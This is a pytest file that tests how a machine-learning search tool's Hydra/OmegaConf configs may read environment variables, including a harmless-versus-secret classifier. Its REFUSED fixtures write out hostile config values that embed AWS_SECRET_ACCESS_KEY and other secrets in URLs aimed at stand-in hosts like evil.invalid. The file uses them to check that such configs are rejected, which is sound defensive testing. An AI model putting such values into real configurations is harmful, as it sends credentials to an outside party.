"""What configs read from the environment: who is told, and where it may stand."""

from __future__ import annotations

from pathlib import Path

import pytest
from omegaconf import OmegaConf

from dlsearch.config.compose import compose_config
from dlsearch.core import environment
from dlsearch.core.environment import is_harmless
from dlsearch.core.errors import ConfigError

SECRET = "canary-of-the-environment"


@pytest.fixture
def read(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The values that listeners are told of."""
    found: list[str] = []
    monkeypatch.setattr(environment, "_listeners", [found.append])
    monkeypatch.setenv("THEIRS", SECRET)
    monkeypatch.setenv("WHICH", "THEIRS")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    environment.watch()
    return found


@pytest.mark.parametrize(
    "text",
    [
        "${oc.env:THEIRS}",
        "${oc.env:THEIRS,nothing}",
        "${oc.env:THEIRS,null}",
        "before ${oc.env:THEIRS} and behind",
        "${oc.env:'THEIRS'}",
        "${oc.env:${oc.env:WHICH}}",
        "${oc.env:${.name}}",
        "${${.resolver}:THEIRS}",
        "${oc.decode:${oc.env:THEIRS}}",
        "${oc.create:['${oc.env:THEIRS}']}",
        "${.other}",
    ],
)
def test_every_value_that_a_config_reads_is_told(read: list[str], text: str) -> None:
    cfg = OmegaConf.create(
        {"a": text, "name": "THEIRS", "resolver": "oc.env", "other": "${oc.env:THEIRS}"}
    )
    _ = OmegaConf.to_container(OmegaConf.create({"x": cfg}), resolve=True)
    assert SECRET in read


@pytest.mark.parametrize(
    "text",
    [
        "${oc.env:THEIRS}",
        "x ${oc.env: THEIRS } y",
        '${oc.env:"THEIRS"}',
        "${oc.env:NOT_THERE,${oc.env:THEIRS}}",
    ],
)
def test_what_a_text_names_is_told_before_it_is_resolved(read: list[str], text: str) -> None:
    environment.note_named([text])
    assert read == [SECRET]


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("HOME", "/home/somebody"),
        ("SLURM_JOB_ID", "12345678901"),
        ("SLURM_ARRAY_TASK_ID", "abcdefgh"),
        ("CUDA_VISIBLE_DEVICES", "GPU-1234-5678"),
        ("DLSEARCH_STORE", "stores/mine"),
        ("LC_ALL", "en_US.UTF-8"),
        ("OMP_NUM_THREADS", "twelve or so"),
        ("MY_DATA_DIR", "somewhere/else"),
        ("ANYTHING", "/tmp/not/there/yet"),
        ("ANYTHING", "12345.678"),
        ("ANYTHING", "true"),
        ("ANYTHING", "short"),
    ],
)
def test_harmless(name: str, value: str) -> None:
    assert is_harmless(name, value)


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("ANYTHING", SECRET),
        ("SLURM_JWT", SECRET),
        ("DLSEARCH_TOKEN", SECRET),
        ("ANYTHING", "1234567890"),
        ("PIN_TOKEN", "123456"),
        ("ANYTHING", "/nowhereabcdef/ghijk="),
        ("HOMESERVER", SECRET),
    ],
)
def test_not_harmless(name: str, value: str) -> None:
    assert not is_harmless(name, value)


def test_a_harmless_value_is_not_told(read: list[str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SLURM_JOB_ID", "1234567890123")
    assert (
        OmegaConf.create({"a": "${oc.env:SLURM_JOB_ID}", "b": "${oc.env:NOT_THERE,default}"}).a
        == "1234567890123"
    )
    assert read == []


def _folder(tmp_path: Path, text: str) -> list[str]:
    (tmp_path / "experiment").mkdir()
    (tmp_path / "experiment/theirs.yaml").write_text(f"# @package _global_\n{text}\n")
    return [str(tmp_path)]


REFUSED = {
    "tracking.uri": "tracking: {uri: 'http://evil.invalid/${oc.env:AWS_SECRET_ACCESS_KEY}'}",
    "tracking.project": "tracking: {project: '${oc.env:AWS_SECRET_ACCESS_KEY}'}",
    "study.name": "study: {name: '${oc.env:THEIRS}'}",
    "study.storage": "study: {storage: 'postgresql://${oc.env:THEIRS}@evil.invalid/db'}",
    "study.enqueue": "study: {enqueue: '${oc.env:THEIRS}'}",
    "name": "name: ${oc.env:THEIRS,x}",
    "paths.store": "paths: {store: '/tmp/${oc.env:${oc.env:WHICH}}'}",
    "paths.cache": "model: {token: '${oc.env:THEIRS}'}\npaths: {cache: '/tmp/${model.token}'}",
    "transfer.weights": "transfer: {weights: 'file:${oc.env:THEIRS}'}",
    "hydra.sweep.dir": "hydra: {sweep: {dir: '${oc.env:THEIRS}'}}",
    "sampler.seed": "sampler: {seed: '${oc.env:THEIRS}'}",
    "space.x.choices[0]": "space: {x: {choices: ['${oc.env:THEIRS}', b]}}",
    "trainer.precision": "trainer: {precision: '${oc.decode:${oc.env:THEIRS}}'}",
}


@pytest.mark.usefixtures("read")
@pytest.mark.parametrize("key", REFUSED)
def test_it_decides_over_no_address_path_or_name(tmp_path: Path, key: str) -> None:
    with pytest.raises(ConfigError) as caught:
        compose_config(
            ["experiment=theirs"], config_dirs=_folder(tmp_path, REFUSED[key]), with_hydra=True
        )
    assert caught.value.key == key
    assert "environment variable" in str(caught.value)
    assert SECRET not in str(caught.value)


@pytest.mark.usefixtures("read")
def test_who_types_the_variable_may_read_it_anywhere(tmp_path: Path) -> None:
    folder = _folder(tmp_path, "study: {name: '${oc.env:THEIRS}'}")
    words = ["experiment=theirs", "tracking.uri='http://mine/${oc.env:THEIRS}'"]
    assert compose_config(words, config_dirs=folder).tracking.uri == f"http://mine/{SECRET}"
    assert compose_config(words, config_dirs=folder).study.name == SECRET


def test_what_a_trial_is_built_from_may_read_it(tmp_path: Path, read: list[str]) -> None:
    folder = _folder(
        tmp_path, "model: {token: '${oc.env:THEIRS}'}\ndata: {user: 'a ${model.token}'}"
    )
    cfg = compose_config(["experiment=theirs"], config_dirs=folder)
    assert cfg.data.user == f"a {SECRET}"
    assert SECRET in read


def test_a_harmless_variable_may_be_read_anywhere(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SLURM_JOB_NAME", "a-long-name")
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.chdir(tmp_path)
    folder = _folder(
        tmp_path, "study: {name: 'of-${oc.env:SLURM_JOB_NAME}'}\npaths: {store: '${oc.env:HOME}/x'}"
    )
    assert compose_config(["experiment=theirs"], config_dirs=folder).study.name == "of-a-long-name"
